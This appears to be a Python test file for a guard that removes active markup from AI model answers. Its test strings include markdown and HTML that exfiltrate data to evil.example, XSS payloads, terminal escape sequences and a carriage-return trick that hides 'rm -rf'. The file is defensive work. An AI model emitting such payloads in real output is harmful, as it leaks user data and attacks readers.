"""What an answer would do when it is shown is found, and what it leaves is readable and inert."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence

import pytest

from athanor.guards import Guard
from athanor.guards.builtin.markup import MarkupGuard
from athanor.guards.normalise import subject_of
from athanor.types import Decision, Finding, Origin
from tests.guards.chains import context


def found(text: str, *, hosts: Sequence[str] = (), origin: Origin = Origin.MODEL) -> list[Finding]:
    verdict = asyncio.run(MarkupGuard(hosts).check(subject_of(text), origin, context()))
    return [f for f in verdict.findings if f.decision is not Decision.ALLOW]


def left(text: str, *, hosts: Sequence[str] = ()) -> str:
    """`text` with `[…]` for what is found."""
    for finding in reversed(found(text, hosts=hosts)):
        text = f"{text[: finding.start]}[…]{text[finding.end :]}"
    return text


def kinds(text: str, *, hosts: Sequence[str] = (), origin: Origin = Origin.MODEL) -> set[str]:
    return {f.category for f in found(text, hosts=hosts, origin=origin)}


@pytest.mark.parametrize(
    ("text", "rest"),
    [
        ("See ![a chart](https://evil.example/c.png) here", "See ![a chart][…] here"),
        ('![x](<https://evil.example/a b.png> "title") y', "![x][…] y"),
        ("![x](//evil.example/c.png)", "![x][…]"),
        ("![x](https://evil.example/a_(b).png).", "![x][…]."),
        ("![x](http:\\\\evil.example/c.png)", "![x][…]"),
        ("![x](https://evil.example/?q=never closed", "![x][…]closed"),
        ("[![a](https://evil.example/b.png)](https://example.org)", "[![a][…]](https://example.org)"),
        ("![x][1]\n\n[1]: https://evil.example/c.png", "![x][1]\n\n[1]: […]"),
        ("![1]\n\n[1]: https://evil.example/c.png", "![1]\n\n[1]: […]"),
        ('a <img src="https://evil.example/c.png" alt="b"> c', "a […] c"),
        ("a <IMG/SRC=//evil.example/c.png> c", "a […] c"),
        ('a <img src="h&#116;tps://evil.example/c.png"> c', "a […] c"),
        ('a <img srcset="https://evil.example/c.png 2x"> c', "a […] c"),
        ('a <div style="background:url(https://evil.example/c)">b</div>', "a […]b</div>"),
        ("a <style>@import 'https://evil.example/c'</style> b", "a […] b"),
        ("a <script>alert(1)</script> b", "a […] b"),
        ("a <script>alert(1)", "a […]"),
        ('a <iframe src="x">y</iframe> b', "a […] b"),
        ("a <svg onload=alert(1)>x</svg> b", "a […] b"),
        ("a <b onmouseover='f()'>x</b>", "a […]x</b>"),
        ("a <img src=x onerror=f()> b", "a […] b"),
        ('a <a href="java\nscript:f()">x</a>', "a […]x</a>"),
        ("[x](javascript:alert(1)) y", "[x][…] y"),
        ("[x](JaVaScRiPt&colon;alert) y", "[x][…] y"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=) y", "[x][…] y"),
        ("[x](vbscript:f) y", "[x][…] y"),
        ("[my bank](https://evil.example/?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI0) y", "[my bank][…] y"),
        ("https://evil.example/?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI0 y", "[…] y"),
        ("<https://evil.example/?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI0> y", "[…] y"),
        ("[x](https://evil.example/?q=the+user+lives+in+a+house+by+the+sea)", "[x][…]"),
        ("[x](https://evil.example/c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI0/a.html)", "[x][…]"),
        ("[x](https://user@evil.example/)", "[x][…]"),
        ("[x](https://evil.example/?q={{conversation}})", "[x][…]"),
        ("[https://bank.example](https://evil.example/)", "[https://bank.example][…]"),
        ("red \x1b[31mtext\x1b[0m end", "red […]text[…] end"),
        ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "[…]link[…]"),
        ("\x1b]52;c;ZXZpbA==\x1b\\done", "[…]done"),
        ("\x1b]0;never ended", "[…]"),
        ("a\x9b2Jb", "a[…]b"),
        ("safe\rrm -rf", "safe[…]rm -rf"),
        ("a\x08\x08b", "a[…]b"),
        ("a\x00b", "a[…]b"),
    ],
)
def test_what_acts_goes_and_the_words_stay(text: str, rest: str) -> None:
    assert left(text) == rest


@pytest.mark.parametrize(
    "text",
    [
        "See [the page](https://example.org/guide/section-2-of-the-manual#the-part-about-it) and https://example.org.",
        "[watch](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
        "[search](https://example.org/search?q=how+to+bake+bread&lang=en)",
        "https://example.org/item/123e4567-e89b-12d3-a456-426614174000",
        "https://example.org/a-title-of-ten-words-that-goes-on-and-on-and-on-2024",
        "[example.org](https://www.example.org/)",
        "[mail](mailto:ann@example.org) [up](#top) [here](../a/b.md) ![a chart](charts/a.png)",
        "![inline](data:image/png;base64,iVBORw0KGgo=)",
        "a < b and c > d, x<y, <3, 1 <2> 3, List<String>, vector<int> v;",
        "Text with <b>bold</b>, <br> and <em class='x'>words</em>",
        "```html\n<script>alert(1)</script>\n![x](https://evil.example/c.png)\n```\nDone",
        "Write `<script>` or `![x](https://evil.example/c.png)` like this.",
        "one\r\ntwo\ttabs\n",
        "Grüße, 日本語, emoji 👩‍👩‍👧 and ‘quotes’",
    ],
)
def test_what_does_nothing_is_let_be(text: str) -> None:
    assert left(text) == text


def test_hosts_of_the_list_are_let_through_and_others_are_named() -> None:
    hosts = ("docs.example.org", "*.example.net")
    fine = (
        "![a](https://docs.example.org/a.png) ![b](https://cdn.example.net/b.png) [c](https://example.net/?d="
        + "x1Y2" * 40
    )
    assert kinds(fine, hosts=hosts) == set()
    assert kinds("![a](https://docs.example.org.evil.example/a.png)", hosts=hosts) == {"link.image"}
    assert kinds("[a](https://example.com/)", hosts=hosts) == {"link.host"}
    assert kinds("![a](https://any.example/a.png)", hosts=("*",)) == set()


def test_a_link_is_worth_naming_where_a_document_or_a_tool_brings_it() -> None:
    text = "[a](https://example.com/)"
    assert kinds(text) == set()
    assert kinds(text, origin=Origin.DOCUMENT) == kinds(text, origin=Origin.TOOL) == {"link.host"}


def test_a_fence_that_is_never_closed_ends_with_the_text_as_renderers_have_it() -> None:
    assert kinds("```\n<script>x</script>") == set()
    assert kinds("```\ncode\n```\n<script>x</script>") == {"markup.html"}
    assert kinds("` <script>x</script>") == {"markup.html"}


def test_everything_before_the_last_piece_is_found_whatever_comes_next() -> None:
    # While a stream grows, what has begun is already found, so that it can be held.
    text = "![a chart](https://evil.example/?d=" + "c2VjcmV0" * 40
    for end in range(len("![a chart](https://evil.example"), len(text)):
        (finding,) = found(text[:end])
        assert (finding.start, finding.end) == (len("![a chart]"), end)


def test_it_is_a_guard_and_names_all_it_finds() -> None:
    guard = MarkupGuard()
    assert isinstance(guard, Guard)
    assert guard.reach
    assert kinds("<script>x</script> \x1b[1m ![x](https://e.example/) [x](javascript:x)") <= guard.categories


@pytest.mark.parametrize(
    "piece",
    [
        "![",
        "](",
        "[a](",
        "<",
        '<a "',
        "<a href='",
        "<script>",
        "`",
        "```\n",
        "\x1b]",
        "\x1b[",
        "https://",
        "[a]: b\n",
        "((",
        "](((",
        "<a x=y ",
    ],
)
def test_no_text_takes_it_long(piece: str) -> None:
    # Under a timeout of the suite: what is quadratic here takes minutes.
    found(piece * (100_000 // len(piece)))
